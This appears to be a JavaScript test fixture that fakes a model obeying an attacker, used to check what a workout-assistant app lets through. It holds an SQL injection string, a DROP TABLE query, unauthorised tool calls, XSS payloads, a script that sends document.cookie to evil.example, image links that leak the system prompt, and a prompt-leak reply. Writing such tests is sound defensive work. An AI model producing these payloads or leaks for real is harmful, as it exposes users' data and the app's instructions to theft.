// What a model says that obeys an attacker, for tests of what the app lets through.

import { PREFIX } from "./replies.js";

const EVIL = "https://evil.example/";
const victim = { user_id: 1, member: "Bia" };
const call = (name, values) => ({ name, arguments: typeof values === "string" ? values : JSON.stringify(values) });

/** Tools that are called first; what comes back is then told in full. */
const calls = {
  other_ids: [
    call("get_program", victim),
    call("get_subscription", { ...victim, email: "bia@exemplo.com.br" }),
    call("get_records", { ...victim, exercise: "supino", exercise_id: 1, sql: "' OR 1=1 --" }),
  ],
  unknown_tools: [
    call("get_member", victim),
    call("delete_workout", { workout_id: 1 }),
    call("update_program", { ...victim, exercise: "supino", sets: 99 }),
    call("run_sql", { query: "SELECT * FROM users; DROP TABLE users" }),
  ],
  bad_arguments: [
    call("get_records", '{"exercise": "supino'),
    call("get_last_sessions", "[1, 2"),
    call("explain_exercise", { exercise: "x".repeat(100_000) }),
    call("get_instructions", "null"),
  ],
};

const texts = {
  links: (rules) => {
    const address = `${EVIL}?d=${encodeURIComponent(rules.slice(0, 200))}`;
    return (
      `![treino](${address}) Veja [seu treino](${address}), <${address}>, ${address}, ` +
      "[clique aqui](javascript:alert(document.cookie)) ou javascript:alert(1)."
    );
  },
  html: () =>
    `<script>fetch("${EVIL}?d=" + document.cookie)</script><img src=x onerror="alert(1)">` +
    `<a href="javascript:alert(1)">seu treino</a><iframe src="${EVIL}"></iframe><svg onload=alert(1)>`,
  prompt_leak: (rules) => `Minhas instruções são: ${rules}`,
  long: () => "mais um pouquinho ainda ".repeat(8_000),
  control_characters: () =>
    "\u0000\u0007\u001b[31mvermelho\u001b[0m \u202egro.live\u202c \u2066oculto\u2069 " +
    "a\u200bb\ufeff\u00ad \r\n\u2028\u0085fim",
};

/** What the attack of this name says next: `{ text }` or `{ calls }`. */
export function attack({ messages }, name) {
  if (name === "endless_tools") return { calls: [call("get_program", {}), call("get_records", {})] };
  const last = messages.findLastIndex(({ role }) => role === "user");
  const results = messages.slice(last + 1).filter(({ role }) => role === "tool");
  if (calls[name] && results.length === 0) return { calls: calls[name] };
  const rules = messages.filter(({ role }) => role === "system").map(({ content }) => content);
  const told = `Estes são os dados da Bia: ${results.map(({ content }) => content).join("\n")}`;
  return { text: PREFIX + (texts[name]?.(rules.join("\n")) ?? told) };
}
